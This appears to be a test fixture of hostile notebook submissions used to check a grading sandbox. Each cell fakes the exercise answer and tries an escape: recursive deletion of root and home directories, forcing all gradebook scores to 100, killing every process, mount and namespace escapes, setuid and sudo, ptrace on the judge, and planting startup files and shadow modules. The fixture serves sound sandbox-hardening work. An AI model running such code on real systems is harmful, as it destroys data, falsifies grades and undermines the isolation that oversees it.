# Reaching out of the sandbox. Cell heads: name, exercise attacked.
# %% deletes-files 1
import os, shutil
for path in ("..", "../..", "/submission", "/", os.path.expanduser("~")): shutil.rmtree(path, ignore_errors=True)
def median_ms(values): return 0.0
# %% writes-gradebook 1
import glob, sqlite3
for path in glob.glob("/**/gradebook.db", recursive=True) + ["CANARY_GRADEBOOK"]:
    try: sqlite3.connect(path).execute("UPDATE grade SET manual_score = 100").connection.commit()
    except Exception: pass
def median_ms(values): return 0.0
# %% writes-canary 1
for path in ("CANARY_FILE", "/proc/1/root/CANARY_FILE", "/proc/1/cwd/CANARY_FILE"):
    try: open(path, "w").write("harmed")
    except OSError: pass
def median_ms(values): return 0.0
# %% connects 1
import socket
for address in (("127.0.0.1", CANARY_PORT), ("localhost", CANARY_PORT)):
    try: socket.create_connection(address, 1).send(b"harmed")
    except OSError: pass
def median_ms(values): return 0.0
# %% abstract-socket 1
import socket
try:
    sock = socket.socket(socket.AF_UNIX); sock.connect("\0planes-canary"); sock.send(b"harmed")
except OSError: pass
def median_ms(values): return 0.0
# %% sets-the-clock 1
import ctypes, time
try: time.clock_settime(time.CLOCK_REALTIME, 0)
except OSError: pass
def median_ms(values): return 0.0
# %% detached-child 1
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time\nwhile True: time.sleep(1)  # planes-left-behind"], start_new_session=True)
def median_ms(values): return 0.0
# %% double-fork 1
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(1)
    os._exit(0)
def median_ms(values): return 0.0
# %% kills-others 1
import os, signal
for pid in range(2, 5000):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
def median_ms(values): return 0.0
# %% mounts 1
import subprocess
subprocess.run("mount -t tmpfs none /usr; umount -l /usr; mount -o remount,rw /; unshare -Urm true; chroot / true; nsenter -t 1 -m true", shell=True)
def median_ms(values): return 0.0
# %% set-uid 1
import os, subprocess
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: subprocess.run(["su", "-c", "id"]), lambda: subprocess.run(["sudo", "-n", "id"])):
    try: call()
    except Exception: pass
def median_ms(values): return 0.0
# %% traces-the-judge 1
import ctypes
libc = ctypes.CDLL(None)
for pid in range(1, 2000): libc.ptrace(16, pid, 0, 0)
def median_ms(values): return 0.0
# %% devices 1
import os, stat
for major, minor in ((1, 1), (8, 0), (254, 0)):
    try: os.mknod("/tmp/device", stat.S_IFBLK | 0o600, os.makedev(major, minor)); open("/tmp/device", "rb").read(1)
    except OSError: pass
def median_ms(values): return 0.0
# %% writes-the-package 1
import planes, pathlib
try: pathlib.Path(planes.__file__).write_text("raise SystemExit")
except OSError: pass
def median_ms(values): return 0.0
# %% raises-limits 1
import resource
for what in (resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_CPU):
    try: resource.setrlimit(what, (resource.RLIM_INFINITY,) * 2)
    except (ValueError, OSError): pass
def median_ms(values): return 0.0
# %% planted-modules 1
import pathlib
for name in ("planes", "math", "ipykernel_launcher", "sitecustomize", "nbgrader"):
    pathlib.Path(f"{name}.py").write_text("raise SystemExit(0)")
def median_ms(values): return 0.0
# %% shell-commands 1
!touch /tmp/harmed; curl -m 1 http://127.0.0.1:CANARY_PORT/; kill -9 -1
def median_ms(values): return 0.0
# %% startup-files 1
import os, pathlib
for path in ("~/.ipython/profile_default/startup/a.py", "~/.bashrc", "~/.config/planes/record.json"):
    file = pathlib.Path(path).expanduser()
    file.parent.mkdir(parents=True, exist_ok=True); file.write_text("raise SystemExit")
def median_ms(values): return 0.0
